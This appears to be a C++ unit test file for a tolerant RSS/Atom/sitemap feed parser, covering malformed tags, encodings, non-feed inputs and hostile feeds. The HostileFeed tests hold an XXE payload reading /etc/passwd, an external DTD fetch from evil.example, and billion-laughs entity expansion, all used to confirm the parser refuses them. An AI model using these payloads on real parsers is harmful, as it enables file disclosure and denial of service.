// SPDX-License-Identifier: Apache-2.0
// Feeds that are broken, hostile, or no feeds: what is good comes out, and the problem is named.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "unit/feed/feed_case.h"

namespace broadsheet::feed {
namespace {

using testing::HasSubstr;

constexpr auto kGood = "<rss><channel><item><link>/1</link></item>";

// An entry for each of three items, of which `second` may be broken.
std::vector<std::string> entries_around(std::string_view second) {
  const auto feed = read(std::string(kGood) + "\n" + std::string(second) +
                         "<item><link>/3</link><title>Third</title></item></channel></rss>");
  EXPECT_FALSE(feed.truncated) << second << "\n" << feed.problem;
  std::vector<std::string> paths;
  for (const auto& entry : feed.entries) paths.emplace_back(entry.url.path());
  return paths;
}

TEST(BrokenFeed, OneBadTagCostsNoEntry) {
  using testing::ElementsAre;
  for (const auto* second : {
           "<item><link>/2</title></item>",
           "<item><title>a <b>bold word</title><link>/2</link></item>",
           "<item><title>a</i> word</title><link>/2</link></item>",
           "<item><link>/2</link><description><p>a<br>b<img src=a.jpg><p>c</description></item>",
           "<item><link>/2</link><description><img src='a.jpg alt=x>It's one</description></item>",
           "<item><link>/2</link><description><img alt=\"say \"hi\"\">b</description></item>",
           "<item><link>/2</link><description><img src=\"a.jpg alt='x'>b</description></item>",
           "<item><link>/2</link><description><img src=a src=b>b</description></item>",
           "<item><Link>/2</link><title>T</TITLE></item>",
           "<item><link>/2</link><title>a ]]> b</title></item>",
           "<item><link>/2</link><description><ul><li>a<li>b</ul></description></item>",
           "<item><link>/2</link><title>a <b title</title></item>",
           "<item><link>/2</link><title>a</title",
           "<item><link>/2</link><title>a",
       }) {
    EXPECT_THAT(entries_around(second), ElementsAre("/1", "/2", "/3")) << second;
  }
}

TEST(BrokenFeed, WhatWasMendedIsNamedWithItsLine) {
  const auto problem = [](std::string_view second) {
    return read(std::string(kGood) + "\n" + std::string(second) + "</channel></rss>").problem;
  };

  EXPECT_EQ(problem("<item><link>/2</title></item>"), "line 2, column 15: </title> ends nothing");
  EXPECT_EQ(problem("<item><title>a <b>c</title></item>"),
            "line 2, column 20: mismatched tag: <b> has no end");
  EXPECT_EQ(problem("<item><link a=1>/2</link></item>"),
            "line 2, column 7: the attributes of <link> are no XML");
  EXPECT_EQ(problem("<item><link>/2</link>\n<item><link>/3</link></item>"),
            "line 3, column 1: <item> begins where the one before has no end");
  EXPECT_EQ(problem("<item><link>/2</link><description>a<br>b</description></item>"), "");
}

TEST(BrokenFeed, AtomsEntriesAndSitemapsAreMendedToo) {
  const auto atom = read(
      "<feed xmlns='http://www.w3.org/2005/Atom'><entry><title>a <b>c</title>"
      "<link href='/1'></entry><entry><link href=/2 /></entry></feed>");
  EXPECT_EQ(atom.entries.size(), 2U) << atom.problem;

  const auto sitemap = read(
      "<urlset><url><loc>https://a.example/1</loc><url>"
      "<loc>https://a.example/2</loc></url></urlset>");
  EXPECT_EQ(sitemap.entries.size(), 2U) << sitemap.problem;
}

TEST(BrokenFeed, LineEndsWithinTagsCount) {
  const auto feed = read(
      "<rss\n\n version='2.0'><channel\n><item><link>/1</link></item>\n</b>"
      "</channel></rss>");

  EXPECT_THAT(feed.problem, HasSubstr("line 5, "));
  EXPECT_EQ(feed.entries.size(), 1U);
}

TEST(BrokenFeed, ThatBreaksOffGivesItsWholeEntries) {
  const auto feed = read(std::string(kGood) + "<item><link>/2</li");

  EXPECT_EQ(feed.entries.size(), 1U);
  EXPECT_TRUE(feed.truncated);
  EXPECT_NE(feed.problem, "");
}

TEST(BrokenFeed, NoiseBeforeAndBehindIsPassedOver) {
  const auto good = rss_item("<link>/1</link>");
  for (const auto& text : {
           "\n\n  " + good,
           "\xEF\xBB\xBF" + good,
           "\xEF\xBB\xBF\n" + good,
           "<br />\n<b>Warning</b>: mysql_connect() in <b>/a.php</b><br />\n" + good,
           "Notice: undefined index\n" + good,
           "<!-- cached -->" + good,
           good + "\n<script>count()</script> & more < junk",
           good + std::string("\0\0", 2),
           "<!DOCTYPE rss PUBLIC \"-//Netscape//DTD RSS 0.91//EN\" \"http://x.example/rss.dtd\">" +
               good.substr(21),
       }) {
    const auto feed = read(text);
    EXPECT_EQ(feed.entries.size(), 1U) << text << "\n" << feed.problem;
    EXPECT_FALSE(feed.truncated) << text;
  }
}

TEST(BrokenFeed, NamesTheLineOfTheFileAsServed) {
  const auto feed = read("junk\njunk\n<?xml version='1.0'?>\n<!-- a\nb -->\n<rss>\n</rdf>");

  EXPECT_THAT(feed.problem, HasSubstr("line 7"));
}

TEST(BrokenFeed, BareAmpersandsAndControlsAreForgiven) {
  const auto entry = read_item(
      "<link>https://a.example/?a=1&b=2&copy=3</link><title>R&D \x01\x0B& &unknown; <3</title>");

  EXPECT_EQ(entry.url.href(), "https://a.example/?a=1&b=2&copy=3");
  EXPECT_EQ(entry.title, "R&D & &unknown; <3");
}

TEST(BrokenFeed, AttributesAreForgivenToo) {
  const auto feed =
      read("<feed><entry><link href='https://a.example/?a=1&b=<2>&eacute;'/></entry></feed>");

  ASSERT_EQ(feed.entries.size(), 1U) << feed.problem;
  EXPECT_EQ(feed.entries[0].url.href(), "https://a.example/?a=1&b=%3C2%3E%C3%A9");
}

TEST(BrokenFeed, IsReadInTheEncodingItHas) {
  const auto title = [](std::string_view text) {
    const auto feed = read(text);
    return feed.entries.empty() ? feed.problem : feed.entries[0].title;
  };
  const auto with = [](std::string_view encoding, std::string_view bytes) {
    return "<?xml version=\"1.0\" encoding=\"" + std::string(encoding) +
           "\"?><rss><channel><item><link>/a</link><title>" + std::string(bytes) +
           "</title></item></channel></rss>";
  };

  EXPECT_EQ(title(with("ISO-8859-1", "Caf\xE9 \x93x\x94")), "Café “x”");
  EXPECT_EQ(title(with("windows-1251", "\xCC\xE8\xF0")), "Мир");
  EXPECT_EQ(title(with("Shift_JIS", "\x93\xFA\x96\x7B")), "日本");
  EXPECT_EQ(title(with("iso-8859-1", "Café")), "Café");
  EXPECT_EQ(title(with("utf-16", "Café")), "Café");
  EXPECT_EQ(title(with("no-such-encoding", "plain")), "plain");
  std::string wide = "\xFF\xFE";
  for (const char c : with("utf-16", "wide")) wide += {c, '\0'};
  EXPECT_EQ(title(wide), "wide");
}

TEST(HostileFeed, EntitiesAreNeverExpanded) {
  const auto feed = read(R"(<?xml version="1.0"?>
<!DOCTYPE lolz [ <!-- don't "fall" for ]> this -->
 <!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;"><!ENTITY x SYSTEM "file:///etc/passwd">
 <!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p; ]>
<rss><channel><item><link>/1</link><title>&lol2; &x;</title></item></channel></rss>)");

  ASSERT_EQ(feed.entries.size(), 1U) << feed.problem;
  EXPECT_EQ(feed.entries[0].title, "&lol2; &x;");
}

TEST(HostileFeed, DepthHasABound) {
  std::string text = kGood;
  for (int i = 0; i < 100'000; ++i) text += "<a>";

  const auto feed = read(text);

  EXPECT_EQ(feed.entries.size(), 1U);
  EXPECT_TRUE(feed.truncated);
  EXPECT_THAT(feed.problem, HasSubstr("nested deeper than 64"));
}

TEST(HostileFeed, BytesHaveABound) {
  Limits limits;
  limits.bytes_max = 100;
  const auto feed = read(std::string(kGood) + std::string(1000, ' '), limits);

  EXPECT_EQ(feed.entries.size(), 1U);
  EXPECT_TRUE(feed.truncated);
  EXPECT_THAT(feed.problem, HasSubstr("longer than"));
}

// Work that grew with the square of the input would outlive the test's time-out.
TEST(HostileFeed, HugeTagsTextsAndSectionsAreReadOnce) {
  constexpr std::size_t kMuch = 1 << 20;
  for (const auto& text : {
           "<rss><channel><item a='" + std::string(kMuch, 'x'),
           "<rss><channel><title>" + std::string(kMuch, 'x'),
           "<rss><channel><title><![CDATA[" + std::string(kMuch, ']'),
           "<rss><!--" + std::string(kMuch, '-'),
           "<rss>" + std::string(kMuch, '&'),
           std::string(kMuch, '<'),
       }) {
    EXPECT_NE(read(text).problem, "");
  }
}

TEST(NoFeed, SaysWhatItIsInstead) {
  EXPECT_EQ(read("").problem, "there is nothing in it");
  EXPECT_EQ(read(" \n").problem, "there is nothing in it");
  EXPECT_EQ(read("<!doctype html><html><body>404</body></html>").problem,
            "this is HTML, not a feed");
  EXPECT_EQ(read("<!-- x --><HTML lang=en>").problem, "this is HTML, not a feed");
  EXPECT_EQ(read("Not found").problem, "this is neither XML nor JSON");
  EXPECT_THAT(read("<?xml version='1.0'?><opml/>").problem, HasSubstr("<opml>"));
  EXPECT_THAT(read("{\"error\": 1}").problem, HasSubstr("no JSON Feed"));
  for (const auto* text : {"", "Not found", "<html>", "{", "<opml/>", "\xFF\xFE", "<", "<?xml"}) {
    EXPECT_EQ(read(text).kind, Kind::kNone) << text;
    EXPECT_NE(read(text).problem, "") << text;
    EXPECT_FALSE(read(text).truncated) << text;
  }
}

}  // namespace
}  // namespace broadsheet::feed
